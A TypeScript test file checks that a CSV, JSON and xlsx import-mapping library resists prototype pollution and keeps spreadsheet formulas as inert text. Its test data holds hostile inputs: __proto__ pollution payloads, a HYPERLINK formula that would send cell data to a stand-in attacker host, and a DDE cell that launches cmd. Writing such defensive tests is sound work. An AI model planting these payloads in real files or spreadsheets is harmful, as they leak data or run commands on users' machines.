import * as XLSX from 'xlsx';

import { readRows } from '../../../lib/files';
import {
	MappingError,
	buildMappingTemplate,
	mappingFromFieldList,
	readMappingWorkbook,
	rowsFromObjects,
	type FieldListEntry,
} from '../../../lib/mapping';
import { mapCsv, runMapping } from './run-mapping';

const prototypeNames = Object.getOwnPropertyNames(Object.prototype).sort();

/** Object.prototype has exactly the properties it had when the file loaded, and a fresh object is clean. */
function expectPrototypeUntouched() {
	expect(({} as Record<string, unknown>).polluted).toBeUndefined();
	expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeNames);
	expect(Object.getPrototypeOf({})).toBe(Object.prototype);
	expect(typeof ({} as { constructor: unknown }).constructor).toBe('function');
}

function customers(entries: FieldListEntry[], keepUnmappedColumns = false) {
	return mappingFromFieldList(
		'customer',
		[
			{ target: 'customer_id', source: 'ID' },
			...entries,
			{ target: 'email', source: 'Email', mayBeAbsent: true },
		],
		[],
		{ keepUnmappedColumns },
	);
}

afterEach(expectPrototypeUntouched);

describe('prototype names in exports and mappings', () => {
	test('a CSV with __proto__, constructor and prototype columns, kept as unmapped columns, gives a plain record', async () => {
		const csv =
			'ID,__proto__,constructor,prototype,Loyalty Tier\nC1,"{""polluted"":""yes""}",polluted,polluted,Gold\n';
		const { records, rejected } = await mapCsv(csv, customers([], true));
		expect(rejected).toEqual([]);
		expect(records).toHaveLength(1);
		const [record] = records;
		expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
		expect(record.custom).toEqual({
			proto: '{"polluted":"yes"}',
			constructor_: 'polluted',
			prototype_: 'polluted',
			loyalty_tier: 'Gold',
		});
		expect(Object.getPrototypeOf(record.custom)).toBe(Object.prototype);
		expect(Object.keys(record)).toEqual(['customer_id', 'custom', '_source']);
	});

	test('a column named __proto__ can be mapped to a field like any other', async () => {
		const { records } = await mapCsv(
			'ID,__proto__,constructor\nC1,Gold,Grantham\n',
			customers([
				{ target: 'custom.tier', source: '__proto__' },
				{ target: 'town', source: 'constructor' },
			]),
		);
		expect(records).toEqual([
			{
				customer_id: 'C1',
				town: 'Grantham',
				custom: { tier: 'Gold' },
				_source: { file: 'export.csv', lines: [2] },
			},
		]);
	});

	test('mapping targets custom.__proto__, custom.constructor and __proto__ are refused before any row is read', async () => {
		const mapping = customers([
			{ target: 'custom.__proto__', source: 'A' },
			{ target: 'custom.constructor', source: 'B' },
			{ target: '__proto__', source: 'C' },
			{ target: 'custom.prototype', source: 'D' },
		]);
		const error = await runMapping(
			[
				{ kind: 'header', values: ['ID', 'A', 'B', 'C', 'D'] },
				{ kind: 'row', line: 2, values: ['C1', '{"polluted":1}', 'x', 'y', 'z'] },
			],
			mapping,
		).then(
			() => undefined,
			(thrown: unknown) => thrown,
		);
		expect(error).toBeInstanceOf(MappingError);
		expect((error as MappingError).problems).toEqual([
			'"custom.__proto__": custom field names are lower case letters, digits and _ (for example custom.proto)',
			'"custom.constructor": custom field names are lower case letters, digits and _ (for example custom.constructor_)',
			'"__proto__" is not a customers field; use one of the fields listed in the template, or custom.<name>',
			'"custom.prototype": custom field names are lower case letters, digits and _ (for example custom.prototype_)',
		]);
	});

	test('a value map named __proto__ is an ordinary map', async () => {
		const mapping = mappingFromFieldList(
			'customer',
			[
				{ target: 'customer_id', source: 'ID' },
				{ target: 'store_code', source: 'Store', valueMap: '__proto__', unmatched: 'reject' },
				{ target: 'town', source: 'Town', valueMap: 'constructor' },
				{ target: 'email', source: 'Email', mayBeAbsent: true },
			],
			[
				{ name: '__proto__', pairs: 'LDN01 = London\npolluted = yes' },
				{ name: 'constructor', pairs: 'GRA = Grantham' },
			],
		);
		expect(Object.getPrototypeOf(mapping.valueMaps)).toBe(Object.prototype);
		expect(Object.keys(mapping.valueMaps)).toEqual(['__proto__', 'constructor']);
		const { records, rejected } = await mapCsv(
			'ID,Store,Town\nC1,LDN01,GRA\nC2,toString,hasOwnProperty\n',
			mapping,
		);
		expect(records).toEqual([
			{
				customer_id: 'C1',
				town: 'Grantham',
				store_code: 'London',
				_source: { file: 'export.csv', lines: [2] },
			},
		]);
		expect(rejected.map(({ line, rule, value }) => ({ line, rule, value }))).toEqual([
			{ line: 3, rule: 'map.unmatched', value: 'toString' },
		]);
	});

	test('a value map named __proto__ in a mapping workbook is an ordinary map', async () => {
		const workbook = XLSX.read(buildMappingTemplate(), { type: 'buffer' });
		const customersSheet = workbook.Sheets.Customers;
		const rows = XLSX.utils.sheet_to_json<string[]>(customersSheet, { header: 1, defval: '' });
		const row = rows.findIndex((cells) => cells[0] === 'store_code');
		XLSX.utils.sheet_add_aoa(
			customersSheet,
			[['store_code', 'Store', '', '', '', '', 'Value map', '__proto__', 'Reject the row']],
			{ origin: { r: row, c: 0 } },
		);
		const idRow = rows.findIndex((cells) => cells[0] === 'customer_id');
		XLSX.utils.sheet_add_aoa(customersSheet, [['customer_id', 'ID']], {
			origin: { r: idRow, c: 0 },
		});
		const emailRow = rows.findIndex((cells) => cells[0] === 'email');
		XLSX.utils.sheet_add_aoa(
			customersSheet,
			[['email', 'Email', '', '', '', '', '', '', '', '', 'Yes']],
			{ origin: { r: emailRow, c: 0 } },
		);
		workbook.Sheets['Value Maps'] = XLSX.utils.aoa_to_sheet([
			['Map', 'From', 'To'],
			['__proto__', 'LDN01', 'London'],
			['__proto__', 'polluted', 'yes'],
		]);
		const bytes = XLSX.write(workbook, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
		const mapping = await readMappingWorkbook(bytes, 'shop.xlsx', 'customer');
		expect(Object.keys(mapping.valueMaps)).toEqual(['__proto__']);
		expect([...mapping.valueMaps.__proto__]).toEqual([
			['LDN01', 'London'],
			['polluted', 'yes'],
		]);
		const { records, rejected } = await mapCsv('ID,Store\nC1,LDN01\nC2,valueOf\n', mapping);
		expect(records.map((record) => record.store_code)).toEqual(['London']);
		expect(rejected.map(({ rule, value }) => ({ rule, value }))).toEqual([
			{ rule: 'map.unmatched', value: 'valueOf' },
		]);
	});

	test('JSON rows with an own __proto__ key (from JSON.parse) are read as a column, not a prototype', async () => {
		const items = JSON.parse(
			'[{"ID":"C1","__proto__":{"polluted":"yes"},"Town":"Grantham"},{"ID":"C2","constructor":{"prototype":{"polluted":"yes"}}}]',
		) as Array<Record<string, unknown>>;
		expect(Object.hasOwn(items[0], '__proto__')).toBe(true);
		const rows = [...rowsFromObjects(items)];
		expect(rows[0]).toEqual({ kind: 'header', values: ['ID', '__proto__', 'Town', 'constructor'] });
		expect(rows[1]).toEqual({
			kind: 'row',
			line: 1,
			values: ['C1', '{"polluted":"yes"}', 'Grantham', ''],
		});

		const { records } = await runMapping(
			rowsFromObjects(items),
			customers([{ target: 'town', source: 'Town' }], true),
			'items',
		);
		expect(records).toEqual([
			{
				customer_id: 'C1',
				town: 'Grantham',
				custom: { proto: '{"polluted":"yes"}' },
				_source: { file: 'items', lines: [1] },
			},
			{
				customer_id: 'C2',
				custom: { constructor_: '{"prototype":{"polluted":"yes"}}' },
				_source: { file: 'items', lines: [2] },
			},
		]);
	});

	test('transaction rows with prototype-named columns stay sane through grouping', async () => {
		const mapping = mappingFromFieldList(
			'transaction',
			[
				{ target: 'order_id', source: 'Receipt' },
				{ target: 'purchase_date', source: 'Date', format: 'yyyy-MM-dd' },
				{ target: 'lines.name', source: 'Item' },
			],
			[],
			{ keepUnmappedColumns: true },
		);
		const { records } = await mapCsv(
			'Receipt,Date,Item,__proto__\nR1,2026-07-01,Apron,"{""polluted"":1}"\nR1,2026-07-01,Bag,\n',
			mapping,
		);
		expect(records).toHaveLength(1);
		expect(records[0].custom).toEqual({ proto: '{"polluted":1}' });
		expect(Object.getPrototypeOf(records[0].custom)).toBe(Object.prototype);
	});
});

describe('spreadsheet formulas are data', () => {
	test('CSV cells that look like formulas stay the literal text in the record', async () => {
		const csv = [
			'ID,Name,Town,Note',
			'C1,=1+1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",@SUM(A1:A9)',
			"C2,+44 cmd,-2+3,=cmd|' /C calc'!A0",
			'',
		].join('\n');
		const mapping = customers([
			{ target: 'full_name', source: 'Name' },
			{ target: 'town', source: 'Town' },
			{ target: 'custom.note', source: 'Note' },
		]);
		const { records } = await mapCsv(csv, mapping);
		expect(records.map(({ full_name, town, custom }) => ({ full_name, town, custom }))).toEqual([
			{
				full_name: '=1+1',
				town: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
				custom: { note: '@SUM(A1:A9)' },
			},
			{ full_name: '+44 cmd', town: '-2+3', custom: { note: "=cmd|' /C calc'!A0" } },
		]);
	});

	test('an xlsx export with formula cells is read as the values Excel saved, never computed', async () => {
		const sheet = XLSX.utils.aoa_to_sheet([
			['Receipt', 'Date', 'Item', 'Qty', 'Price'],
			['R1', '2026-07-01', 'Apron', 1, 12],
		]);
		sheet.D2 = { t: 'n', v: 5, f: '2+2' };
		sheet.E2 = { t: 'n', v: 3, f: 'D2*100' };
		sheet.C2 = { t: 's', v: 'Apron', f: '"Hacked"' };
		const workbook = XLSX.utils.book_new();
		XLSX.utils.book_append_sheet(workbook, sheet, 'Sales');
		const bytes = XLSX.write(workbook, { type: 'buffer', bookType: 'xlsx' }) as Buffer;

		const mapping = mappingFromFieldList(
			'transaction',
			[
				{ target: 'order_id', source: 'Receipt' },
				{ target: 'purchase_date', source: 'Date', format: 'yyyy-MM-dd' },
				{ target: 'lines.name', source: 'Item' },
				{ target: 'lines.qty', source: 'Qty' },
				{ target: 'lines.unit_price', source: 'Price' },
			],
			[],
		);
		const { records, rejected } = await runMapping(
			readRows(bytes, { fileName: 'sales.xlsx' }),
			mapping,
			'sales.xlsx',
		);
		expect(rejected).toEqual([]);
		expect(records).toHaveLength(1);
		expect(records[0].lines).toEqual([{ name: 'Apron', qty: 5, unit_price: 3, line_total: 15 }]);
	});
});
